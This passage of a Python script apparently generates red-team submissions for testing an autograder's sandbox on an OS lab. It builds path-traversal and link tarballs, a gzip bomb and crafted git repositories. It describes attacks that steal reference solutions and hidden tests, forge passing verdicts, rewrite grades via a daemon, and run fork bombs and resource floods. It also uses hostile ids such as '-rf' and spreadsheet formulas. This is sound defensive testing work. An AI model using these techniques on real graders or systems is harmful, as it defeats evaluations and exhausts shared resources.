        f.write(gzip.compress(head.tobuf(tarfile.GNU_FORMAT)))
        for _ in range(gib * 16):
            f.write(zeros)
        f.write(gzip.compress(tail.getvalue()))


def tar_links(dest, victim, token):
    """The student files as links (symbolic, hard, absolute) to the victim's
    and the instructor's; members that climb out with `..` or start at /."""
    with tarfile.open(dest, "w:gz") as tar:
        def link(name, target, kind):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mtime = kind, target, 1700000000
            tar.addfile(info)
        link("os/mm/memm.c", "../../../%s/os/mm/memm.c" % victim, tarfile.SYMTYPE)
        link("os/mm/memm_slab.c", os.path.join(ROOT, "os/mm/memm_slab.c"), tarfile.SYMTYPE)
        tar_add(tar, "x/memm_first_fit.c", b"/* a file to hard-link */\n")
        link("os/mm/memm_first_fit.c", "x/memm_first_fit.c", tarfile.LNKTYPE)
        tar_add(tar, "../../pagoda-redteam-%s-tar-climb" % token, b"out\n")
        tar_add(tar, "/tmp/pagoda-redteam-%s-tar-abs" % token, b"out\n")


# ---------------------------------------------------------------------------

def build(lab, dest, token, manifest_path):
    if lab != "kmalloc":
        raise SystemExit("make_redteam: the attacks are written for lab kmalloc only")
    port = 20000 + int(token, 16) % 20000
    tag = "pagoda-redteam-" + token
    os.makedirs(dest)
    work = tempfile.mkdtemp(prefix="pagoda-redteam-")
    made = []

    def entry(student, name, base, what, expect=None, graded=True):
        made.append({"id": student, "entry": name, "base": base, "attack": what,
                     "expect": expect or {}, "graded": graded})

    try:
        handout = os.path.join(work, "handout")
        subprocess.run([sys.executable, "-B", os.path.join(ROOT, "tools", "lab", "lab.py"),
                        "handout", lab, handout], check=True, capture_output=True)
        paths = L.student_files(lab)
        ref = M.reference(lab)
        starter = {p: open(os.path.join(handout, p)).read() for p in paths}
        wrong = M.patched(lab, os.path.join(ROOT, "labs", lab, "wrong", WRONG), work)
        victim, wronged, owner = "reference-rae", "wrong-wes", "starter-sam"

        def repo(student, files, where=None):
            return M.clone(handout, where or os.path.join(dest, student), files)

        def scratch(student, files):
            return repo(student, files, os.path.join(work, student))

        def attack(files, path, head):
            return dict(files, **{path: with_head(files[path], head)})

        def script(text, student):
            return fill(text, token=token, me=student, victim=wronged, port=port,
                        first=FIRST_TEST, tag=tag)

        # The honest class.
        M.bundle(scratch(owner, starter), os.path.join(dest, owner + ".bundle"))
        entry(owner, owner + ".bundle", owner, "honest: the starter, a git bundle")
        repo(wronged, wrong)
        entry(wronged, wronged, wronged, "honest: wrong/%s (fails one host test), a git "
              "repository; the victim of daemon-dan" % WRONG)
        repo(victim, ref)
        entry(victim, victim, victim, "honest: the reference, a git repository; what the "
              "link attacks point at", {"score": "max"})

        # Attacks in the student's code.
        s = "steal-sid"
        files = attack(starter, "os/mm/memm.c", hosted(
            "find the reference, copy it in, rebuild, run it; else make stress say ok; "
            "leak the hidden tests", C_STEAL, script(STEAL, s)))
        M.tarball(scratch(s, files), os.path.join(dest, s + ".tar.gz"), s)
        entry(s, s + ".tar.gz", owner, "a host test finds the reference (the instructor's "
              "tree by walking up, /proc, mountinfo, OUT/slurm/grade.sbatch; a classmate's "
              "files in OUT/submitted or SUBMISSIONS), copies it over its own files, rebuilds "
              "the test and both kernels and runs again; with none in reach it makes the "
              "kernels' `stress` say ok; it writes the hidden tests (found at run time or "
              "embedded at compile time with .incbin) into every stream it reaches "
              "(/proc/*/fd/1 and 2, /dev/tty, as `ok` and `obs:` lines)")

        s = "forge-fay"
        files = attack(wrong, "os/mm/memm_first_fit.c", hosted(
            "a failed host test says it passed", fill(C_FORGE, tag=tag), script(FORGE, s)))
        M.tarball(scratch(s, files), os.path.join(dest, s + ".tgz"), ".")
        entry(s, s + ".tgz", wronged, "the test's exit() and ASan's __asan_on_error "
              "replaced to print `obs: end` and `ok` and exit 0 when the test fails; "
              "__asan_default_options/__ubsan_default_options send reports to a file; "
              "expected observations, if any are in reach, replayed in place of the test")

        s = "daemon-dan"
        daemon = script(DAEMON, s).replace("@PYC@", repr(fill(PYC, tag=tag)))
        files = attack(starter, "os/mm/memm_slab.c", hosted(
            "a daemon that rewrites verdicts, a sleeper", C_RUN_ONLY,
            script(DAEMON_START, s).replace('"""@DAEMON@"""', repr(daemon))))
        M.bundle(scratch(s, files), os.path.join(dest, s + ".bundle"))
        entry(s, s + ".bundle", owner, "a detached daemon (argv[0] %s-daemon, 150 s) "
              "rewrites its grade.json, its own and %s's results and feedback, writes into "
              "SUBMISSIONS and OUT/base's public tests, plants .pyc files (a marker, a "
              "process, then the real module) in every grader tree it is led to "
              "(tools/lab/__pycache__/class_task... in the instructor's); a sleeper "
              "(argv[0] %s-sleeper) holds the test's output open for good"
              % (tag, wronged, tag))

        s = "console-cy"
        files = dict(starter, **{"os/mm/memm.c": console_forger(starter["os/mm/memm.c"])})
        repo(s, files)
        entry(s, s, owner, "in the kernel: kmalloc_pid called from the `stress` command "
              "prints `stress: ok` and a prompt and stops (the hidden stress test believes "
              "the kernel's own verdict)")

        s = "bomb-bo"
        files = attack(ref, "os/mm/memm.c", hosted("a fork bomb", C_BOMB))
        M.bundle(scratch(s, files), os.path.join(dest, s + ".bundle"))
        entry(s, s + ".bundle", victim, "a fork bomb in a host test",
              {"status": "out of resources"})

        s = "hog-hal"
        files = attack(ref, "os/mm/memm.c", hosted("memory until stopped", C_HOG))
        repo(s, files)
        entry(s, s, victim, "a host test allocates and touches 64 MiB after 64 MiB",
              {"status": "out of memory"})

        s = "flood-flo"
        files = attack(ref, "os/mm/memm.c", hosted(
            "network, litter, 1 GiB files, 512 MiB lines", fill(C_FLOOD, first=FIRST_TEST),
            script(FLOOD, s)))
        M.bundle(scratch(s, files), os.path.join(dest, s + ".bundle"))
        entry(s, s + ".bundle", victim, "sockets (TCP and UDP to 127.0.0.1:%d, ::1, "
              "1.1.1.1; abstract and path unix sockets in /tmp, /run, /var/tmp, /dev/shm; "
              "munge, docker, dbus), DNS, sbatch; a file in every writable directory; "
              "1 GiB files in /tmp and the build tree; a 512 MiB line on stdout (as an "
              "observation), on stderr and on /proc/1/fd/1 (as an `ok` line)" % port,
              {"feedback_max": 64 << 10})

        s = "shm-sue"
        files = attack(ref, "os/mm/memm.c", hosted("memory in tmpfs files",
                                                    fill(C_SHM, first=FIRST_TEST, tag=tag)))
        repo(s, files)
        entry(s, s, victim, "a host test writes up to 1.5 GiB of files into /dev/shm, /dev "
              "and /tmp (memory no process holds); if it held 1 GiB or more and is still "
              "running, it fails its first test (a canary), else it runs as the reference; "
              "graded with --memory 1G (as a user who is not root, where no cgroup counts "
              "them) it must be stopped or held back: `out of memory`, or the reference's "
              "score", {"held_1g": True})

        # Attacks on the way a submission is read.
        s = "alice=1"
        repo(s, ref)
        entry(s, s, victim, "an id with `=` (broke the x86_64 ISO build): the reference, "
              "which must score as the reference does", {"same_as_base": True})

        s = "linkref-lu"
        link_ref(repo(s, starter), victim)
        entry(s, s, owner, ".git/refs/heads/main a symbolic link to %s's, "
              "objects/info/alternates to its objects" % victim)

        s = "commondir-cal"
        common_dir(repo(s, starter), victim)
        entry(s, s, owner, ".git/commondir names %s/.git: its refs and objects, no link"
              % victim)

        s = "alternates-al"
        alternates_only(repo(s, starter), os.path.join(dest, victim), victim)
        entry(s, s, owner, "refs/heads/main holds %s's commit (a plain file), its objects "
              "only through objects/info/alternates" % victim)

        s = "gitfile-gil"
        os.makedirs(os.path.join(dest, s))
        with open(os.path.join(dest, s, ".git"), "w") as f:
            f.write("gitdir: ../%s/.git\n" % victim)
        entry(s, s, None, "a .git file `gitdir: ../%s/.git`" % victim,
              {"status": "unreadable"}, graded=False)

        s = "dirlink-di"
        os.makedirs(os.path.join(dest, s))
        os.symlink(os.path.join("..", victim, "os"), os.path.join(dest, s, "os"))
        entry(s, s, None, "a plain directory whose os/ is a link to %s/os" % victim,
              {"status": "unreadable"}, graded=False)

        s = "tarlinks-ty"
        tar_links(os.path.join(dest, s + ".tar.gz"), victim, token)
        entry(s, s + ".tar.gz", None, "a tarball whose student files are symbolic and hard "
              "links (to %s's, to the instructor's by absolute path), with members "
              "`../../...` and `/tmp/...`" % victim, {"status": "unreadable"}, graded=False)

        s = "members-mo"
        many_members(os.path.join(dest, s + ".tar.gz"), starter)
        entry(s, s + ".tar.gz", owner, "300,000 empty members, then the starter's files",
              {"status": "unreadable"}, graded=False)

        s = "gzbomb-gus"
        gzip_bomb(os.path.join(dest, s + ".tgz"), starter)
        entry(s, s + ".tgz", owner, "a .tgz of about 4 MB: 4 GiB of zeros, then the "
              "starter's files", {"status": "unreadable"}, graded=False)

        # Ids: none of these holds the lab's files (cheap: unreadable).
        for s, what in (("alice%3D1", "the id alice=1 maps to (a collision?)"),
                        ("=2+3", "an id that is a spreadsheet formula"),
                        ("@SUM(1)", "an id starting with @"),
                        ("-rf", "an id starting with -"),
                        ("Zoë Ünïcode ..x", "spaces, unicode and .. in an id"),
                        ("é" * 100, "an id of 200 bytes (longer than a file name once "
                                    "escaped)")):
            os.makedirs(os.path.join(dest, s))
            with open(os.path.join(dest, s, "README.txt"), "w") as f:
                f.write("no lab files here\n")
            entry(s, s, None, what, {"status": "unreadable"}, graded=False)
    finally:
        shutil.rmtree(work, ignore_errors=True)

    manifest = {"lab": lab, "token": token, "tag": tag, "port": port,
                "victim": wronged, "first_test": FIRST_TEST, "hidden_names": HIDDEN_NAMES,
                "submissions": made}
    with open(manifest_path, "w") as f:
        json.dump(manifest, f, indent=1, ensure_ascii=False)
        f.write("\n")
    for e in made:
        print("%s %s %s" % (e["id"], e["base"] or "-", e["attack"]))
    return 0


def main(argv):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("lab")
    p.add_argument("dest")
    p.add_argument("--token", default=secrets.token_hex(4))
    p.add_argument("--manifest")
    args = p.parse_args(argv)
    int(args.token, 16)
    dest = os.path.abspath(args.dest)
    return build(args.lab, dest, args.token.lower(),
                 args.manifest or dest.rstrip("/") + "-manifest.json")


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
